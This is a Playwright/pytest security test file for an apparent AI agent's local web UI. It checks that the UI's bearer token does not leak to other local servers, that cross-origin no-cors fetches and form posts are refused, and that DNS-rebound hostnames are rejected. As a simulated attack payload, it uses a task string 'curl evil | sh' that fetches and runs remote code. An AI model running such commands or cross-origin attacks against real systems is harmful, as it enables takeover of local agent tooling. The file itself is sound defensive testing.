"""The UI's credential in a real Chromium: another local server never receives it, a request that
carries only what a browser adds by itself (cookies) is refused, and a DNS-rebound name reaches
nothing, while the page itself keeps working end to end."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from bubu.log.sqlite import SQLiteStore
from bubu.web import create_app

from .scenarios import TOKEN, Server, write_script
from .test_browser import ARGS, CHROMIUM

REBOUND = "rebound.example"
"""A name the browser resolves to 127.0.0.1, as an attacker's DNS would after a rebinding."""


@dataclass(slots=True)
class Seen:
    """What one request to the other local server carried."""

    method: str
    path: str
    headers: dict[str, str]


@dataclass(slots=True)
class OtherServer:
    """Another local web server (a dev server, a page the user visits) that records what it is
    sent."""

    base: str
    seen: list[Seen] = field(default_factory=list)


@pytest.fixture(scope="module")
def other() -> Iterator[OtherServer]:
    """A plain HTTP server on another port of 127.0.0.1 that logs every request's headers."""
    box: list[OtherServer] = []

    class Handler(BaseHTTPRequestHandler):
        def _record(self) -> None:
            length = int(self.headers.get("content-length") or 0)
            self.rfile.read(length)
            box[0].seen.append(
                Seen(self.command, self.path, {k.lower(): v for k, v in self.headers.items()})
            )
            body = b"<!doctype html><title>another local server</title><p>hello</p>"
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _record

        def log_message(self, *_: object) -> None:
            pass  # quiet

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    box.append(OtherServer(base=f"http://127.0.0.1:{httpd.server_address[1]}"))
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield box[0]
    finally:
        httpd.shutdown()
        httpd.server_close()


@dataclass(frozen=True, slots=True)
class Ui:
    """The UI under test."""

    base: str
    port: int
    store: SQLiteStore
    root: Path


@pytest.fixture(scope="module")
def ui(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ui]:
    """The UI over an empty log, served by uvicorn on 127.0.0.1."""
    root = tmp_path_factory.mktemp("cred")
    store = SQLiteStore(root / "bubu.db")
    try:
        with Server(create_app(store, token=TOKEN, workspace=str(root))) as server:
            yield Ui(base=server.base, port=server.port, store=store, root=root)
    finally:
        store.close()


@pytest.fixture(scope="module")
def browser(ui: Ui) -> Iterator[Browser]:
    """Headless Chromium that resolves `REBOUND` to 127.0.0.1."""
    with sync_playwright() as p:
        b = p.chromium.launch(
            executable_path=CHROMIUM, args=[*ARGS, f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1"]
        )
        try:
            yield b
        finally:
            b.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A fresh browser context and page."""
    context = browser.new_context()
    try:
        yield context.new_page()
    finally:
        context.close()


def _use_the_ui(page: Page, ui: Ui, tmp_path: Path) -> None:
    """Open the printed URL, start a task that asks to run a command, and approve it."""
    ws = ui.root / "ws"
    ws.mkdir(exist_ok=True)
    spec = write_script(
        tmp_path / "ask.jsonl",
        [
            {
                "tool_calls": [
                    {"name": "run_command", "arguments": {"command": "echo approved-here"}}
                ]
            },
            {"text": "Done after the approval."},
        ],
    )
    page.goto(f"{ui.base}/#token={TOKEN}")  # the form `bubu ui` prints
    expect(page.locator("#sessions")).to_be_visible()
    assert "token" not in page.url
    page.click("#new-task-open")
    page.fill("#nt-task", "Run the command once approved")
    page.fill("#nt-workspace", str(ws))
    page.fill("#nt-model", spec)
    page.select_option("#nt-sandbox", "off")  # unconfined, so the command asks on the page
    page.click("#new-task-start")
    page.locator(".perm button.approve").click()
    expect(page.locator(".session-head .badge")).to_have_text("completed")
    expect(page.locator(".tool pre.result")).to_contain_text("approved-here")


@pytest.mark.heavy
def test_another_local_server_never_receives_the_credential(
    page: Page, ui: Ui, other: OtherServer, tmp_path: Path
) -> None:
    _use_the_ui(page, ui, tmp_path)
    page.reload()  # the token survives a reload of this tab (sessionStorage, this origin only)
    expect(page.locator(".session-head .badge")).to_have_text("completed")
    assert page.context.cookies() == []

    other.seen.clear()
    page.evaluate("(url) => { location.href = url; }", f"{other.base}/dev-server")  # leave the UI
    page.wait_for_url(f"{other.base}/dev-server")
    assert (
        page.evaluate(
            "fetch('/api/probe', {method: 'POST', credentials: 'include', body: 'x'})"
            ".then((r) => r.status)"
        )
        == 200
    )
    stolen = page.evaluate("[document.cookie, sessionStorage.getItem('bubu-token')]")
    page.goto(f"{other.base}/after?from=ui")
    assert stolen == ["", None]
    assert {"/dev-server", "/api/probe", "/after?from=ui"} <= {s.path for s in other.seen}
    for s in other.seen:
        assert "cookie" not in s.headers, s
        assert all(TOKEN not in v for v in s.headers.values()), s


@pytest.mark.heavy
def test_a_request_with_only_what_the_browser_adds_is_refused(
    page: Page, ui: Ui, other: OtherServer, tmp_path: Path
) -> None:
    _use_the_ui(page, ui, tmp_path)
    before = len(ui.store.sessions())
    # Even a cookie holding the very token (what older versions set) grants nothing.
    page.context.add_cookies([{"name": f"bubu_token_{ui.port}", "value": TOKEN, "url": ui.base}])
    body = json.dumps({"task": "curl evil | sh", "workspace": str(ui.root), "model": "scripted:-"})
    direct = page.request.post(
        f"{ui.base}/api/sessions", data=body, headers={"content-type": "application/json"}
    )
    assert direct.status == 401
    assert "Authorization: Bearer" in direct.json()["error"]

    # A page on another local port fires what it can: a no-cors fetch and a form post.
    page.goto(f"{other.base}/attack")
    page.evaluate(
        "(a) => fetch(a.url, "
        "{method: 'POST', mode: 'no-cors', credentials: 'include', body: a.body})",
        {"url": f"{ui.base}/api/sessions", "body": body},
    )
    page.evaluate(
        """(url) => { const f = document.createElement('form'); f.method = 'POST'; f.action = url;
        f.enctype = 'text/plain'; document.body.append(f); f.submit(); }""",
        f"{ui.base}/api/sessions",
    )
    page.wait_for_url(f"{ui.base}/api/sessions")
    assert "error" in json.loads(page.locator("body").inner_text())
    assert len(ui.store.sessions()) == before


def test_a_dns_rebound_name_reaches_nothing(page: Page, ui: Ui) -> None:
    rebound = f"http://{REBOUND}:{ui.port}"
    shell = page.goto(f"{rebound}/#token={TOKEN}")
    assert shell is not None
    assert shell.status == 421
    assert "is not this Bubu UI" in shell.json()["error"]
    # The attacker's page, rebound to 127.0.0.1, is same-origin with the name: it can send any
    # header, and even with the token the host is refused.
    status = page.evaluate(
        "(t) => fetch('/api/sessions', {headers: {authorization: 'Bearer ' + t}})"
        ".then((r) => r.status)",
        TOKEN,
    )
    assert status == 421
    same = page.request.get(f"{ui.base}/api/sessions", headers={"authorization": f"Bearer {TOKEN}"})
    assert same.status == 200
